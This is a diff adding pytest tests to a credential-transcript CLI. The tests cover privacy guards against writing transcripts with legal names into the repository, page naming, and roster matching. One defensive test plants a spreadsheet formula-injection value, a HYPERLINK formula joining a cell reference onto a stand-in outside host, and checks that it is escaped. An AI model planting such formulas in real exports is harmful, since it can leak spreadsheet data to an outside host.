@@ -11,6 +11,8 @@ import csv
 import io
 import re
 import shutil
+import subprocess
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
@@ -140,3 +142,44 @@ def test_credit_units_show_on_the_district_and_credential_pages(history: Path) -
     )
     assert "| [North District](../districts/north.md) | " in pages["catalog/credentials/delta.md"]
     assert " | 6 PDPs (Professional Learning) | " in pages["catalog/credentials/delta.md"]
+
+
+def test_a_transcript_is_never_written_into_the_repository(history: Path, roster: Path, tmp_path: Path) -> None:
+    """`> transcript.csv` in a clone would put legal names in the working tree, one `git add -A` from public."""
+    command = [sys.executable, "-m", "microcred", "report", "transcript", "--district", "north", "--roster", str(roster)]
+    with (history / "transcript.csv").open("w") as inside:
+        run = subprocess.run(command, cwd=history, stdout=inside, stderr=subprocess.PIPE, text=True, check=False)
+    assert run.returncode == 2 and "the file stdout is written to is inside the repository" in run.stderr
+    assert (history / "transcript.csv").read_text() == ""
+    out = tmp_path / "transcript.csv"
+    run = subprocess.run([*command, "--output", str(out)], cwd=history, capture_output=True, text=True, check=False)
+    assert (run.returncode, run.stdout) == (0, "") and out.read_text().startswith("employee_id,legal_name,")
+    run = subprocess.run([*command, "--output", str(history / "t.csv")], cwd=history, capture_output=True, text=True, check=False)
+    assert run.returncode == 2 and not (history / "t.csv").exists()
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_a_spreadsheet(history: Path, roster: Path, cli: Callable[..., Run]) -> None:
+    credential = history / "catalog/credentials/alpha.yml"
+    credential.write_text(
+        credential.read_text().replace("title: Alpha\n", 'title: "=HYPERLINK(\\"https://x.example/\\"&B2,\\"Open\\")"\n', 1)
+    )
+    found = rows(cli("report", "transcript", "--district", "north", "--roster", str(roster), cwd=history))
+    assert found[0]["title"] == '\'=HYPERLINK("https://x.example/"&B2,"Open")'
+
+
+def test_ids_that_differ_only_in_case_get_a_page_each(history: Path, tmp_path: Path, cli: Callable[..., Run]) -> None:
+    roster = tmp_path / "staff.csv"
+    roster.write_text("email,employee_id,legal_name,login\ndee@north.example.org,a-1,Dee,\n,A-1,Eve,eve\n")
+    run = cli("report", "transcript", "--district", "north", "--roster", str(roster), "--transcripts", str(tmp_path / "out"), cwd=history)
+    assert run.code == 0
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["A-1.html", "a-1-row2.html"]
+
+
+def test_a_badge_carrying_an_employees_address_under_another_login_is_not_theirs(
+    history: Path, tmp_path: Path, cli: Callable[..., Run]
+) -> None:
+    """dee's badges carry dee's address; a staff list saying that address is eve's login does not credit them to eve."""
+    roster = tmp_path / "staff.csv"
+    roster.write_text("email,employee_id,legal_name,login\ndee@north.example.org,N-9,Eve Everett,eve\n")
+    found = rows(cli("report", "transcript", "--district", "north", "--roster", str(roster), cwd=history))
+    assert [(r["employee_id"], r["credential"]) for r in found] == [("N-9", "alpha")]  # eve's own, by login
